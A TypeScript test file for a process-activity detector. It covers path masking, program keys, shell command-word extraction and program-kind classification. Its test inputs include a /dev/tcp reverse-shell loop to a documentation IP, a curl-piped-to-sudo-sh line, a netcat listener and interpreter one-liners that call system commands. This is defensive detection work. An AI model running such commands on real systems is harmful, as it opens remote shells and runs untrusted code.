/** What programs are known by: what varies is masked, what tells them apart is kept. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { ProcessActivity } from '#contract';
import { commandWords } from '../../detectors/command-words.ts';
import { invocationOf, maskedPath, programKey } from '../../detectors/program-key.ts';
import { kindOfProgram } from '../../detectors/program-kinds.ts';
import { processFields, programAt } from '../../detectors/sightings.ts';

const called = (path: string, ...words: string[]): ProcessActivity => processFields({ program: path, arguments: words }) as ProcessActivity;
const keyOf = (path: string, ...words: string[]): string => programKey(called(path, ...words));

describe('paths', () => {
  it('are one where versions, dates and random parts alone differ', () => {
    for (const [one, other] of [
      ['/usr/bin/python3.11', '/bin/python3.12'],
      ['/app/releases/20260301/server', '/app/releases/20260415/server'],
      ['/tmp/_MEIa1B2c3/lib', '/tmp/_MEIx9Yz0q/lib'],
      ['/var/tmp/tmpab12cd34/run', '/var/tmp/tmpzz98yy11/run'],
      ['/opt/jdk-21.0.1/bin/java', '/opt/jdk-21.0.2/bin/java'],
    ] as const) assert.equal(maskedPath(one), maskedPath(other));
  });

  it('are apart where their names differ', () => {
    const names = ['/usr/bin/base64', '/usr/bin/base32', '/bin/nc', '/tmp/.x', '/tmp/.y', '/opt/sshd', '/usr/sbin/sshd'];
    assert.equal(new Set(names.map(maskedPath)).size, names.length);
  });
});

describe('programs', () => {
  it('with many names are known by the one they were called by', () => {
    assert.equal(keyOf('/bin/busybox', 'wget', 'http://a.example'), '/bin/busybox wget');
    assert.equal(keyOf('/bin/busybox', 'busybox', 'nc', '-l'), '/bin/busybox nc');
    assert.equal(keyOf('/bin/busybox', '/bin/sh', '/app/run.sh'), '/bin/busybox sh /app/run.sh');
  });

  it('that interpret are known by their script, or the way they were called', () => {
    for (const [key, path, ...words] of [
      ['/bin/python# /app/server.py', '/usr/bin/python3000', 'python', '-u', '-W', 'ignore', '/app/server.py', '--port', '80'],
      ['/bin/python3 -m http.server', '/usr/bin/python3', 'python3', '-m', 'http.server'],
      ['/bin/node /app/a.js', '/usr/bin/node', 'node', '--require', './hook.js', '--max-old-space-size=100', '/app/a.js'],
      ['/bin/node -c fetch(\'\')', '/usr/bin/node', 'node', '-e', 'fetch("http://a.example")'],
      ['/bin/perl -c use Socket;', '/usr/bin/perl', 'perl', '-MIO', '-e', 'use Socket;'],
      ['/bin/java /app/a.jar', '/usr/bin/java', 'java', '-Xmx100m', '-cp', 'x:y', '-jar', '/app/a.jar'],
      ['/bin/bash -i', '/usr/bin/bash', 'bash', '--norc', '-i'],
      ['/bin/bash -s', '/usr/bin/bash', 'bash'],
      ['/bin/dash -c curl jq', '/usr/bin/dash', 'sh', '-ec', 'A=1 curl -s http://a.example | jq .x'],
      ['/bin/dash /app/clean.sh', '/usr/bin/dash', '/bin/sh', '-e', '/app/clean.sh', '20260301'],
      ['/bin/php -c system(\'\');', '/usr/bin/php', 'php', '-d', 'x=1', '-r', 'system("id");'],
    ] as const) assert.equal(keyOf(path, ...words), key);
  });

  it('are called in no known way where their arguments could not be read', () => {
    assert.equal(invocationOf({ ...called('/usr/bin/dash'), arguments: [] }), undefined);
  });

  it('are known by their names where paths cannot be read', () => {
    assert.equal(programKey(processFields({ program: programAt('', 'python3'), arguments: ['python3', '/app/server.py'] }) as ProcessActivity), '?python3 /app/server.py');
    assert.equal(programKey(processFields({ program: programAt('', 'clean.sh'), arguments: ['/bin/sh', '/app/clean.sh'] }) as ProcessActivity), '?sh /app/clean.sh');
  });
});

describe('text given to a shell', () => {
  it('names the programs it runs', () => {
    assert.deepEqual(commandWords('cd /x && LANG=C curl -s u | sudo sh; if [ -f a ]; then /usr/bin/id; fi > /dev/null'), ['cd', 'curl', 'sh', 'id']);
    assert.deepEqual(commandWords('exec 5<>/dev/tcp/203.0.113.9/1; cat <&5 | while read l; do $l; done'), ['cat', 'read']);
    assert.deepEqual(commandWords('a=$(whoami); echo `hostname`'), ['whoami', 'echo', 'hostname']);
    assert.deepEqual(commandWords(''), []);
  });
});

describe('kinds of programs', () => {
  it('are told by name, whatever version stands behind it', () => {
    for (const [name, kind] of [['gcc-12', 'compiler'], ['x86_64-linux-gnu-gcc-12', 'compiler'], ['pip3.11', 'packages'], ['python3.11', 'interpreter'], ['dash', 'shell'], ['ash', 'shell'], ['ksh93', 'shell'], ['ls', 'ordinary'], ['nc', 'network'], ['flash', 'other'], ['crash', 'other'], ['server', 'other']] as const) {
      assert.equal(kindOfProgram(name), kind, name);
    }
  });
});
